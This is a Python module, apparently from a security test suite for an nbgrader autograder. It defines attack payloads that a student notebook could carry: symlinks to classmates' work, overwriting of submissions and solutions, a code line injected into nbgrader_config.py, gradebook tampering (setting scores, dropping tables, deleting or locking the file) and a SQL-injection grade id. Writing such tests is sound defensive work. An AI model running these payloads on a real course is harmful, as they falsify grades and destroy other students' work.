"""Attacks on other students' work and on the gradebook."""

from __future__ import annotations

from attacks.attack import NOTEBOOK, Attack, code


def _others_notebook(notebook, folder, target):
    (folder / NOTEBOOK).symlink_to(target.other_notebook)


def _others_folder(notebook, folder, target):
    """The folder of the submission is a link to another student's."""
    from pathlib import Path

    folder.rmdir()
    folder.symlink_to(Path(target.other_notebook).parent, target_is_directory=True)


ATTACKS = [
    Attack(
        "others-notebook",
        "others",
        "The notebook is a symbolic link to another student's, who has full marks.",
        _others_notebook,
    ),
    Attack(
        "others-folder", "others", "The whole submission is a symbolic link to another's.", _others_folder
    ),
    Attack(
        "others-overwritten",
        "others",
        "Overwrites what other students handed in.",
        code("""
        import glob
        for path in glob.glob("$course/submitted/*/$lesson/*.ipynb"):
            if "m_" not in path:
                try: open(path, "w").write("{}")
                except OSError as trouble: print(trouble)
        """),
    ),
    Attack(
        "others-graded",
        "others",
        "Changes notebooks in autograded/ and feedback/ that were graded before.",
        code("""
        import glob
        for path in glob.glob("$course/autograded/$other/*/*") + glob.glob("$course/feedback/$other/*/*"):
            try: open(path, "a").write("\\n<!-- $mark -->")
            except OSError as trouble: print(trouble)
        """),
    ),
    Attack(
        "course-poisoned",
        "others",
        "Changes the release and the solutions of the course, so that later submissions are graded against it.",
        code("""
        import glob
        for path in glob.glob("$course/lessons/*/*.ipynb") + glob.glob("$course/solutions/*/*"):
            try: open(path, "a").write(" ")
            except OSError as trouble: print(trouble)
        """),
    ),
    Attack(
        "settings-poisoned",
        "others",
        "Adds a line to nbgrader_config.py that runs with the instructor's next command.",
        code("""
        for path in ("$course/nbgrader_config.py", "nbgrader_config.py", "../../../nbgrader_config.py"):
            try: open(path, "a").write("\\nopen('$outside/$mark', 'w').close()\\n")
            except OSError as trouble: print(trouble)
        """),
    ),
    Attack(
        "submission-swapped",
        "others",
        "Moves another student's submission to its own name while the batch runs.",
        code("""
        import os, shutil
        try:
            shutil.rmtree("$course/submitted/z_honest")
            shutil.copytree("$course/submitted/$other", "$course/submitted/m_more")
        except OSError as trouble: print(trouble)
        """),
    ),
    Attack(
        "gradebook-written",
        "gradebook",
        "Gives itself 100 points in nbgrader's database, once the grader has stored what it found.",
        code("""
        import subprocess, sys
        text = '''
        import sqlite3, time
        for _ in range(60):
            try:
                with sqlite3.connect("$gradebook", timeout=1) as base:
                    base.execute("update grade set auto_score = 100, manual_score = 100")
            except Exception: pass
            time.sleep(0.5)
        # $mark
        '''
        import textwrap
        subprocess.Popen([sys.executable, "-c", textwrap.dedent(text)], start_new_session=True)
        """),
    ),
    Attack(
        "gradebook-others",
        "gradebook",
        "Sets the points of all other students to nothing.",
        code("""
        import sqlite3
        with sqlite3.connect("$gradebook", timeout=2) as base:
            base.execute("update grade set auto_score = 0, manual_score = 0, extra_credit = 0")
        """),
    ),
    Attack(
        "gradebook-emptied",
        "gradebook",
        "Drops the tables of the gradebook.",
        code("""
        import sqlite3
        base = sqlite3.connect("$gradebook", timeout=2, isolation_level=None)
        base.execute("pragma foreign_keys = off")
        for name in ("grade", "submitted_notebook", "submitted_assignment", "student"):
            base.execute("drop table if exists " + name)
        """),
    ),
    Attack(
        "gradebook-deleted",
        "gradebook",
        "Deletes the gradebook's file, or puts another in its place.",
        code("import os\nos.remove('$gradebook')\nopen('$gradebook', 'w').write('gone')"),
    ),
    Attack(
        "gradebook-locked",
        "gradebook",
        "A process that outlives the kernel holds the gradebook locked.",
        code("""
        import subprocess, sys
        text = ("import sqlite3, time; b = sqlite3.connect('$gradebook', timeout=1, isolation_level=None); "
                "b.execute('begin exclusive'); time.sleep(45)  # $mark")
        subprocess.Popen([sys.executable, "-c", text], start_new_session=True)
        import time; time.sleep(1)
        """),
    ),
    Attack(
        "gradebook-by-api",
        "gradebook",
        "Uses nbgrader's own Python interface to remove students and assignments.",
        code("""
        from nbgrader.api import Gradebook
        with Gradebook("sqlite:///$gradebook") as book:
            book.remove_student("$other")
        """),
    ),
    Attack(
        "table-injection",
        "gradebook",
        "A cell id and a grade id that would be SQL if anyone pasted them into a statement.",
        lambda notebook, folder, target: [
            one.metadata.update(nbgrader={**one.metadata.nbgrader, "grade_id": "x'); drop table grade; --"})
            for one in notebook.cells[-3:]
            if "nbgrader" in one.metadata
        ],
    ),
]
